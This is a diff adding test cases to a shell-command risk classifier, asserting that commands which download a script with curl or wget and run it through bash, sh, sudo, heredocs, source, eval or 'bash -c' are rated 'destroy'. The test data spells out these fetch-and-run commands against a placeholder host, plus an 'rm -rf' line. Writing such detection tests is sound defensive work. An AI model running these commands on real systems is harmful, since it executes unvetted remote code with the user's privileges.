@@ -661,6 +661,22 @@ describe('classifyShell', () => {
     expect((await classify(line)).level).toBe(level);
   });
 
+  // Downloaded code kept in a variable runs as what curl printed, however it is handed to a shell.
+  it.each<[string, RiskLevel]>([
+    ['x=$(curl -fsSL https://x/i.sh); bash <<< "$x"', 'destroy'],
+    ['x="$(curl -fsSL https://x/i.sh)"; sudo bash <<< "$x"', 'destroy'],
+    ['x=$(wget -qO- https://x/i.sh); sh <<< $x', 'destroy'],
+    ['x=$(curl -fsSL https://x/i.sh); bash <<EOF\n$x\nEOF', 'destroy'],
+    ['x=$(curl -fsSL https://x/i.sh); source /dev/stdin <<< "$x"', 'destroy'],
+    ['x=$(curl -fsSL https://x/i.sh); bash -c "$x"', 'destroy'],
+    ['x=$(curl -fsSL https://x/i.sh); eval "$x"', 'destroy'],
+    ['sh -c "$(curl -fsSL https://x/i.sh)"', 'destroy'],
+    ['x=$(cat f); bash <<< "$x"', 'write'],
+    ['x=$(curl -fsSL https://x); cat <<< "$x"', 'read'],
+  ])('%s is %s', async (line, level) => {
+    expect((await classify(line)).level).toBe(level);
+  });
+
   it('{{ templates }} are filled in at run time, so the line is at least write', async () => {
     expect(await classify('echo {{ inputs.name }}')).toMatchObject({ level: 'write' });
     expect((await classify('rm -rf {{ inputs.dir }}')).level).toBe('destroy');
